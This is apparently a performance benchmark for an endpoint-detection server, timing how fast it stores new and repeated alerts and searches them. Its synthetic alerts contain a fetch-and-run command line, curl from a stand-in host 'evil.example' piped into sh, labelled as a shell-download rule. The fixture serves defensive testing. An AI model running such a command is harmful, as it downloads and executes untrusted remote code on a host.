"""Alerts taken in by the server's service, decoded and durable, on a file: new ones, repeated ones, and a search."""

from __future__ import annotations

import tempfile
import time
from typing import Any

from eguard.clock import SimulatedClock
from eguard.detection.alert import Alert, Contribution, MatchedRule
from eguard.fleet import FleetStore
from eguard.server.services.event_search import EventQuery, EventSearch
from eguard.server.services.events import Events
from eguard.wire.bodies import decode_body, encode_body
from eguard.wire.telemetry import MAX_TELEMETRY_BYTES, TelemetryBatch

AGENTS = 20
BATCHES = 40
ALERTS = 500
SEARCHES = 20
NOW = 1_772_000_000.0
TARGET_ALERTS = 5_000


def run() -> list[dict[str, Any]]:
    """Return the rates of new and of repeated alerts, and the time of a search among them."""
    bodies = [_body(number) for number in range(BATCHES)]
    with tempfile.TemporaryDirectory() as folder, FleetStore.create(f"sqlite:///{folder}/fleet.db") as store:
        events = Events(store.database, SimulatedClock(NOW))
        batches = [decode_body(body, TelemetryBatch, MAX_TELEMETRY_BYTES) for body in bodies]
        taken = _seconds(lambda: [events.take(batch.agent_id, batch) for batch in batches])
        repeated = _seconds(lambda: [events.take(batch.agent_id, batch) for batch in batches])
        read = _seconds(lambda: [decode_body(body, TelemetryBatch, MAX_TELEMETRY_BYTES) for body in bodies])
        search = EventSearch(store.database, SimulatedClock(NOW))
        looked = _seconds(lambda: [search.page(EventQuery(text="curl evil")) for _ in range(SEARCHES)])
    total = BATCHES * ALERTS
    return [
        _row("telemetry: new alerts, durable, as incidents", total / taken, "alerts/s", TARGET_ALERTS),
        _row("telemetry: repeated alerts", total / repeated, "alerts/s"),
        _row("telemetry: bodies read strictly", total / read, "alerts/s"),
        _row(f"telemetry: search of two words among {total} alerts", 1000.0 * looked / SEARCHES, "ms"),
    ]


def _seconds(work: Any) -> float:
    started = time.perf_counter()
    work()
    return time.perf_counter() - started


def _body(number: int) -> bytes:
    agent_id = f"agent-{number % AGENTS:06d}"
    alerts = [
        Alert(
            alert_id=f"{number:08x}{index:08x}",
            host_id=agent_id,
            observed_at_unix=NOW - 60.0 + index / ALERTS,
            event_class="process_exec",
            process_key=f"worker-{index % 50}:sh",
            confidence="high",
            response="alert_only",
            reasons=("rule", "classifier above its threshold"),
            score=0.75,
            p_value=0.002,
            model_version="m7",
            contributions=tuple(Contribution(f"feature_{part}", 1.0, 0.1) for part in range(5)),
            ancestors=("sh", "nginx", "systemd"),
            rules=(MatchedRule(f"rule-{index % 20}", "Download by a shell", "high", "somebody", ("attack.t1105",)),),
            command_line=f"curl -s http://evil.example/{index} -o /srv/x | sh " + "x" * 150,
            pid=index,
        )
        for index in range(ALERTS)
    ]
    return encode_body({"agent_id": agent_id, "batch_id": f"b{number}", "alerts": alerts})


def _row(name: str, ours: float, unit: str, target: float | None = None) -> dict[str, Any]:
    row = {"name": name, "ours": ours, "peer": None, "unit": unit, "ratio": None, "target_ratio": None}
    return row if target is None else {**row, "target": target}


if __name__ == "__main__":
    for row in run():
        print(row)
